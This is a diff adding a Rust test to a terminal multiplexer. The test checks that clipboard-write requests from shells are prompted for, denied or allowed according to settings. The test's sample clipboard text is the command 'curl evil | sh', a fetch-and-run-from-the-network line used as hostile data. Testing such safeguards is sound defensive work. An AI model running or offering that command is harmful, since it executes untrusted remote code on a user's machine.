@@ -563,6 +563,39 @@ fn a_button_that_went_down_in_a_shell_is_that_shells_until_it_is_up() {
 }
 
 #[test]
+fn what_the_settings_say_of_the_clipboard_holds_in_open_shells() {
+    use crate::config::settings::Clipboard;
+    let mut bench = three();
+    let offer = |bench: &mut Bench| {
+        let update = ShellUpdate::Copy { text: "curl evil | sh".into(), ask: true };
+        bench.apply(Update::Shell { tab: 3, update });
+    };
+    let set = |bench: &mut Bench, clipboard| {
+        let (mut settings, keymap) = (bench.state.settings.clone(), (*bench.state.keymap).clone());
+        settings.clipboard = clipboard;
+        bench.state.take_settings(settings, keymap);
+    };
+    let told = |bench: &Bench| {
+        let terminal = bench.state.shells.tab(3).unwrap().terminal.clone();
+        terminal.feed(b"\x1b]52;c;aGVsbG8=\x07");
+        terminal.with_screen_mut(crate::console::term::Screen::take_events)
+    };
+    offer(&mut bench);
+    bench.press("ctrl-g y");
+    assert!(bench.screen(80, 24).contains("Put this into the clipboard?"));
+    set(&mut bench, Clipboard::Deny);
+    assert!(!bench.screen(80, 24).contains("Put this into the clipboard?"));
+    assert_eq!(told(&bench), []);
+    // One that was on its way is denied as well.
+    offer(&mut bench);
+    bench.press("ctrl-g y");
+    assert!(bench.state.overlays.is_empty());
+    set(&mut bench, Clipboard::Allow);
+    assert_eq!(told(&bench), [crate::console::term::Event::Copy { text: "hello".into(), ask: false }]);
+    assert_eq!(copied(&bench), [""; 0]);
+}
+
+#[test]
 fn a_shell_whose_node_does_not_answer_says_so_and_for_how_long() {
     let mut bench = three();
     bench.apply(Update::Shell { tab: 3, update: ShellUpdate::Silent(Duration::from_secs(6)) });
